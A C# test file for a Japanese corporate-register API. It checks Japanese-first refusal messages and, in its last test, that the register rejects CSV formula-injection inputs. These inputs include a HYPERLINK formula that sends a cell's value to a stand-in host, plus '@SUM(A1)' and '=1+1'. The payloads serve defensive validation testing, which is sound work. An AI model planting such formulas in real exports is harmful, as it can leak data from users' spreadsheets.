using System.Net;
using System.Text.Json;
using Renkei.Hosting.Storage;
using Renkei.Numbers;
using Renkei.Testing;
using static Renkei.Registry.Tests.Corporations.CorporateNumberSearchTests;

namespace Renkei.Registry.Tests.Corporations;

/// <summary>What the register's refusals tell an administrator: Japanese first, and which item of a batch and which field.</summary>
public sealed class CorporationRefusalTests
{
    private static void JapaneseFirst(string? text) =>
        Assert.True(text is { Length: > 0 } && text[0] > '\u3000' && text.Contains(" / "), text);

    private static JsonProperty SingleError(JsonElement problem) => Assert.Single(problem.GetProperty("errors").EnumerateObject());

    [Theory, StorageData]
    public async Task A_number_already_on_the_register_names_the_batch_item_and_field_in_japanese_first(StorageProvider provider)
    {
        // Audit Z #6: a batch's 409 said only "… is already on the register.", in English, and not which of up to 5,000 items.
        using var host = RegistryHost.Start(provider);
        var admin = host.Client("corporations");
        var taken = await RegisterAsync(admin, Company("登録済試験株式会社", "トウロクズミシケン"));
        object Assigned(string name, string number) => new
        {
            name, furigana = "シケン", kind = "301", corporateNumber = number, assignmentDate = "2016-04-01",
            address = new { localGovernmentCode = "131059", streetNumber = "春日１丁目" },
        };
        var fresh = CorporateNumber.FromBase(0100_01_777777).Digits;

        var (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new
        {
            corporations = new[] { Company("一括甲株式会社", "イッカツコウ"), Assigned("一括乙株式会社", taken), Company("一括丙株式会社", "イッカツヘイ") },
        });
        Assert.Equal((HttpStatusCode.Conflict, "urn:renkei:problem:corporation-exists"), (status, type));
        var error = SingleError(problem);
        Assert.Equal("corporations[1].corporateNumber", error.Name);
        JapaneseFirst(error.Value[0].GetString());
        Assert.Contains(taken, error.Value[0].GetString());
        JapaneseFirst(problem.GetProperty("detail").GetString());
        Assert.Contains("corporations[1]", problem.GetProperty("detail").GetString());

        // Twice in one batch: the second is the one refused, and neither is written.
        (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new
        {
            corporations = new[] { Assigned("一括丁株式会社", fresh), Company("一括戊株式会社", "イッカツボ"), Assigned("一括己株式会社", fresh) },
        });
        Assert.Equal((HttpStatusCode.Conflict, "urn:renkei:problem:corporation-exists"), (status, type));
        Assert.Equal("corporations[2].corporateNumber", SingleError(problem).Name);

        // One registration names the field alone; a number derived from a company legal number names that field.
        (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations", Assigned("単独株式会社", taken));
        Assert.Equal((HttpStatusCode.Conflict, "urn:renkei:problem:corporation-exists"), (status, type));
        Assert.Equal("corporateNumber", SingleError(problem).Name);
        JapaneseFirst(problem.GetProperty("detail").GetString());
        await RegisterAsync(admin, new
        {
            name = "会社法人等番号試験株式会社", furigana = "シケン", kind = "301", companyLegalNumber = "0100-01-888888",
            address = new { localGovernmentCode = "131059", streetNumber = "春日１丁目" },
        });
        (status, type, problem) = await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new
        {
            corporations = new[]
            {
                new
                {
                    name = "会社法人等番号重複株式会社", furigana = "シケン", kind = "301", companyLegalNumber = "0100-01-888888",
                    address = new { localGovernmentCode = "131059", streetNumber = "春日１丁目" },
                },
            },
        });
        Assert.Equal((HttpStatusCode.Conflict, "urn:renkei:problem:corporation-exists"), (status, type));
        Assert.Equal("corporations[0].companyLegalNumber", SingleError(problem).Name);

        var written = await Publication.GetAsync(host.Client(), $"/4/diff?id=sandbox&type=22&{AroundToday()}");
        Assert.Equal(2, written.Count);
    }

    [Theory, StorageData]
    public async Task Refusals_of_a_change_in_the_corporations_state_are_japanese_first(StorageProvider provider)
    {
        using var host = RegistryHost.Start(provider);
        var admin = host.Client("corporations");
        async Task<JsonElement> Refused(string number, object change, HttpStatusCode expected, string slug)
        {
            var (status, type, problem) = await Publication.PostForProblemAsync(admin, $"/api/corporations/{number}/changes", change);
            Assert.Equal((expected, "urn:renkei:problem:" + slug), (status, type));
            JapaneseFirst(problem.GetProperty("detail").GetString());
            return problem;
        }

        var open = await RegisterAsync(admin, Company("状態試験株式会社", "ジョウタイシケン"));
        await Refused(open, new { process = "22" }, HttpStatusCode.Conflict, "change-not-allowed");
        await Refused(open, new { process = "72" }, HttpStatusCode.Conflict, "change-not-allowed");
        await ChangeAsync(admin, open, new { process = "21", closeCause = "01" });
        Assert.Contains("22", (await Refused(open, new { process = "11", name = "閉鎖後株式会社", furigana = "ヘイサゴ" },
            HttpStatusCode.Conflict, "change-not-allowed")).GetProperty("detail").GetString());
        await ChangeAsync(admin, open, new { process = "99" });
        await Refused(open, new { process = "22" }, HttpStatusCode.Conflict, "corporation-deleted");
        await Refused(CorporateNumber.FromBase(0100_01_999999).Digits, new { process = "99" }, HttpStatusCode.NotFound, "unknown-corporation");

        using var unknown = await admin.GetAsync($"/api/corporations/{CorporateNumber.FromBase(0100_01_999999).Digits}");
        var (unknownStatus, unknownProblem) = await Publication.ProblemAsync(unknown);
        Assert.Equal(HttpStatusCode.NotFound, unknownStatus);
        JapaneseFirst(unknownProblem.GetProperty("detail").GetString());
    }

    [Theory, StorageData]
    public async Task Published_text_that_a_spreadsheet_would_run_as_a_formula_is_refused(StorageProvider provider)
    {
        // Audit Z #7: the NTA-format CSV is opened in spreadsheets, which run a cell that begins =, +, - or @, quoted or not.
        using var host = RegistryHost.Start(provider);
        var admin = host.Client("corporations");
        void Formula((HttpStatusCode Status, string Type, JsonElement Problem) answer, string type, params string[] fields)
        {
            Assert.Equal((HttpStatusCode.BadRequest, "urn:renkei:problem:" + type), (answer.Status, answer.Type));
            var errors = answer.Problem.GetProperty("errors");
            Assert.Equal(fields.Order(), errors.EnumerateObject().Select(p => p.Name).Order());
            foreach (var field in fields)
            {
                var message = errors.GetProperty(field)[0].GetString();
                JapaneseFirst(message);
                Assert.Contains("=", message);
            }
        }

        // Full-width ＝ and ＋ fold to = and + (NFKC), as a clerk's input method types them.
        Formula(await Publication.PostForProblemAsync(admin, "/api/corporations", new
        {
            name = "＝HYPERLINK(\"http://x.example/?\"&A1,\"詳細\")", furigana = "シケン", kind = "301", enName = "-2+3",
            address = new { localGovernmentCode = "131059", streetNumber = "＋1-1", enCityName = "@SUM(A1)" },
        }), "invalid-corporation", "name", "enName", "address.streetNumber", "address.enCityName");
        Formula(await Publication.PostForProblemAsync(admin, "/api/corporations/batch", new { corporations = new[] { Company("=1+1", "シケン") } }),
            "invalid-corporation", "corporations[0].name");
        Assert.Equal(0, (await Publication.GetAsync(host.Client(), $"/4/diff?id=sandbox&type=22&{AroundToday()}")).Count);

        var number = await RegisterAsync(admin, Company("数式試験株式会社", "スウシキシケン"));
        Formula(await Publication.PostForProblemAsync(admin, $"/api/corporations/{number}/changes", new { process = "11", name = "新数式試験株式会社", furigana = "シン", changeCause = "=1+1" }),
            "invalid-change", "changeCause");
        Formula(await Publication.PostForProblemAsync(admin, $"/api/corporations/{number}/changes", new { process = "13", address = new { addressOutside = "　@cmd" } }),
            "invalid-change", "address.addressOutside");

        // Only the first character counts: a name or cause holding -, = or + further in is published as before.
        await ChangeAsync(admin, number, new { process = "11", name = "A-Z=株式会社", furigana = "エーゼット", changeCause = "商号変更（2025-04-01 株主総会）" });
        var history = await Publication.GetAsync(host.Client(), $"/4/num?id=sandbox&type=22&number={number}&history=1");
        Assert.Equal("A-Z=株式会社", history.Records[^1]["name"]);
    }
}
